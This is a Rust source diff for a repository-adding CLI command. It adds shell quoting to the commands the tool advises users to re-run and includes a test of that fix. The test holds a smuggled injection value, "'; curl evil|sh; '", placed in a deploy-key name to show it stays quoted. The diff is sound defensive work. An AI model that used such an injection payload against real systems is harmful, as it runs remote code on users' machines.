@@ -4,7 +4,7 @@ use super::here;
 use super::kept::{has_each, protect, tell_brought};
 use super::place::{Before, noticed, place};
 use super::scratch::Scratch;
-use super::shown::{show_commands, show_image, tell_of_leaks};
+use super::shown::{accepting, show_commands, show_image, tell_of_leaks};
 use super::source::{Source, is_the_same, source_of};
 use super::trial::{self, Target};
 use super::upstream::{compare_one, sync_one, upstream_listing};
@@ -21,7 +21,7 @@ use crate::effect::read_toolchain;
 use crate::forge::{Access, ForgeReads, RepoRef, Repository, is_accepted};
 use crate::git::{Auth, Branch, FetchLimits, RemoteUrl, Repos};
 use crate::secret::Secret;
-use crate::text::{count, one_line};
+use crate::text::{count, one_line, shell_word};
 use crate::upstream::{credential, followed, on_forge};
 use anyhow::{Context, Result};
 use clap::Args;
@@ -263,9 +263,8 @@ impl Add {
     /// What to say to add the same again.
     fn again(&self) -> String {
         let here = if self.here { " --here" } else { "" };
-        let name = self.name.as_ref().map(|name| format!(" --name {name}")).unwrap_or_default();
-        let foreign = self.accept_foreign.iter().map(|name| format!(" --accept-foreign '{name}'")).collect::<String>();
-        format!("{}{here}{name}{foreign}", self.source)
+        let name = self.name.as_ref().map(|name| format!(" --name {}", shell_word(name))).unwrap_or_default();
+        format!("{}{here}{name}{}", shell_word(&self.source), accepting(&self.accept_foreign))
     }
 
     /// Where GitHub does not say it now, the number that was known before stays.
@@ -400,7 +399,8 @@ impl Add {
             printer.bad(&one_line(name));
         }
         let complaint = Complaint::new("the repository is not added while unknown parts would read its pushes");
-        let hint = format!("remove them on the forge, or accept each by name: --accept-foreign '{}'", left[0]);
+        let first = shell_word(left[0]);
+        let hint = format!("remove them on the forge, or accept each by name: --accept-foreign {first}");
         Err(complaint.hint(hint).into())
     }
 }
@@ -420,6 +420,7 @@ fn key_of(name: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::cli::printer::tests;
 
     #[test]
     fn names_and_keys_come_from_addresses() {
@@ -429,5 +430,31 @@ mod tests {
             assert_eq!(last_part(address), name);
         }
         assert_eq!(key_of("My_Shop.rs"), "my-shop-rs");
+    }
+
+    #[test]
+    fn a_name_from_the_forge_is_one_word_of_the_command_that_is_advised() {
+        let key = "deploy key 7 \"'; curl evil|sh; '\"".to_owned();
+        let add = Add {
+            source: "/srv/it's here".to_owned(),
+            here: false,
+            moved: false,
+            also: Vec::new(),
+            name: Some("my shop".to_owned()),
+            owner: ORGANISATION.to_owned(),
+            writers: Vec::new(),
+            accept: None,
+            accept_foreign: vec![key.clone()],
+            on_forge: None,
+            no_try: false,
+        };
+        let quoted = r#"--accept-foreign 'deploy key 7 "'\''; curl evil|sh; '\''"'"#;
+        assert_eq!(add.again(), format!(r"'/srv/it'\''s here' --name 'my shop' {quoted}"));
+        let other = Add { accept_foreign: Vec::new(), ..add };
+        let printed = tests::printed(false, |printer| {
+            let refused = other.judge_foreign(std::slice::from_ref(&key), printer).expect_err("not accepted");
+            printer.error(&Complaint::from(&refused));
+        });
+        assert!(printed.contains(quoted), "{printed}");
     }
 }
